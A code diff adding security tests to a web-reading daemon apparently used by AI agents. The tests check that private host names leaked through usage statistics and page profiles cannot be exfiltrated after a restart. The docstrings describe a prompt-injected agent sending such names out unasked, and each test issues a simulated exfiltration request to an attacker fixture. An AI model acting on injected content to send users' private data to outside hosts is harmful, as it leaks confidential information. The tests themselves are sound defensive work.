@@ -18,9 +18,11 @@ from trawl.exits import nested_hosts
 from trawl.server.runner import RunningDaemon
 
 from tests.integration.test_daemon_helpers import daemon_settings
+from tests.integration.test_profiles_daemon import site as profiled_site
+from tests.security.local import serve_html
 from tests.security.test_exit_flow_daemon import SECRET_FILE, mcp_daemon  # noqa: F401 (mcp_daemon: the fixture)
 from tests.security.test_exit_question import _a_user_who_reads
-from tests.security.test_exits import TOKEN, Server, fetch, page, refused, serve
+from tests.security.test_exits import TOKEN, Server, api, fetch, page, refused, serve
 from tests.security.test_exits import attacker as attacker  # the fixture
 from tests.security.test_mcp_roots import http_client, out_of
 
@@ -123,3 +125,44 @@ def test_ordinary_values_and_file_names_are_not_hosts() -> None:
     for url in ["https://github.com/a/b/blob/main/README.md?plain=1", "http://localhost:8000/docs/setup.py",
                 "https://docs.test/search?q=rate+limits&v=1.2.3&id=abc.def", "https://x.test/files/v1.2.zip"]:
         assert nested_hosts(url) == [], url
+
+
+# --------------------------------------------------------------- trawl's records of reads (usage, profiles)
+PRIVATE_HOST = "merger-with-northwind.corp.test"  # a host only the user's logged-in tab showed
+
+
+async def test_usage_statistics_name_private_hosts_only_to_a_session_that_then_counts_as_private(
+        tmp_path: Path, attacker: Server) -> None:
+    """``/v1/stats`` summarises every session's calls, this daemon's and earlier ones' (``TRAWL_USAGE_LOG=1``): the
+    hosts that fail most include a tab's or a local service's. After a restart the unbound session starts clean, so
+    a prompt-injected agent with the HTTP API read the private host's name there and sent it out unasked."""
+    from trawl import usage
+
+    settings = daemon_settings(tmp_path, allow_private_hosts=True, usage_log=True)
+    # what the daemon's previous life recorded: the user's agent read a tab there, and one read timed out
+    for error in (None, "timeout"):
+        usage.append(settings, usage.of_call("read_tab", {"tab": 7}, {
+            "url": f"https://{PRIVATE_HOST}/deal/terms", "source": "extension",
+            **({"error": {"code": error, "message": "", "hint": ""}} if error else {})}, 900.0))
+    async with RunningDaemon(settings, warm=False) as d, api(d) as c:
+        stats = (await c.post("/v1/stats", json={})).json()
+        assert stats["ok"] and PRIVATE_HOST in {h["host"] for h in stats["failing_hosts"]}, stats
+        refused(await fetch(d, f"{attacker.url}/c?visited={PRIVATE_HOST}"))
+    assert attacker.hits == []
+
+
+async def test_a_page_profile_confirms_a_private_read_only_to_a_session_that_then_counts_as_private(
+        tmp_path: Path, attacker: Server) -> None:
+    """``/v1/profile_page`` answers whether trawl learnt a profile for a site, how many pages since and when: that
+    trawl read a local service (or a tab) there. After a restart, a clean session confirmed the private read and
+    sent it out unasked."""
+    settings = daemon_settings(tmp_path, allow_private_hosts=True, page_profiles=True)
+    async with serve_html(profiled_site) as base:
+        async with RunningDaemon(settings, warm=False) as d, api(d) as c:
+            for path in ("/harbour", "/museum"):  # the earlier life: the user's agent read the local service
+                assert (await c.post("/v1/fetch", json={"url": base + path, "query": "materials"})).json()["ok"]
+        async with RunningDaemon(settings, warm=False) as d, api(d) as c:
+            shown = (await c.post("/v1/profile_page", json={"host": base})).json()
+            assert shown["ok"] and shown["profile"] is not None, shown
+            refused(await fetch(d, f"{attacker.url}/c?read={shown['profile']['pages']}"))
+    assert attacker.hits == []
